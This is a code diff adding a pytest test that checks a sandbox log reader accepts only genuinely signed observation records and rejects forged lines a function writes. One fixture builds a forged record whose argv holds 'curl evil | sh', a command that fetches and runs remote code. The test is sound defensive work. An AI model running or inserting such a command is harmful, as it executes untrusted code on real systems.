@@ -291,3 +291,30 @@ def test_forged_observation_lines_never_become_observations(tmp_path: Path) -> N
         handle.write(_signed(obs("{task}/b", env="e1"), key) + "\n")
     again = read_sources([str(path)], function="orders", cursors=result.cursors)
     assert [o.target for o in again.observations.values()] == ["{task}/b"]
+
+
+@pytest.mark.signed_only
+def test_a_record_is_authenticated_as_exactly_the_object_that_is_read(tmp_path: Path) -> None:
+    # GIVEN genuine signed records, each with bytes the function wrote without a newline in
+    # front of it on its line: an unsigned record whose first key is not "type", and junk
+    key = bytes(range(32))
+    start = {"type": "sandbox.start", "mode": "learn", "env": "e1", "observation_key": key.hex()}
+    forged = {"v": 2, **obs("/bin/sh", env="e1", argv=["-c", "curl evil | sh"])}
+    lines = [
+        "INIT_START Runtime Version: python:3.11 (local)",
+        json.dumps(start),
+        json.dumps(forged) + _signed(obs("{task}/genuine", env="e1"), key),
+        '{"x": 0}' + _signed(obs("/etc/hostname", env="e1"), key),
+        'noise {"type": "sandbox.observation", "target": "'
+        + _signed(obs("{task}/c", env="e1"), key),
+    ]
+    path = tmp_path / "stream.log"
+    path.write_text("\n".join(lines) + "\n")
+    # WHEN read as the product reads
+    result = read_sources([str(path)], function="orders")
+    # THEN every genuine record counts, and nothing the function wrote becomes an observation
+    assert sorted(o.target for o in result.observations.values()) == [
+        "/etc/hostname",
+        "{task}/c",
+        "{task}/genuine",
+    ]
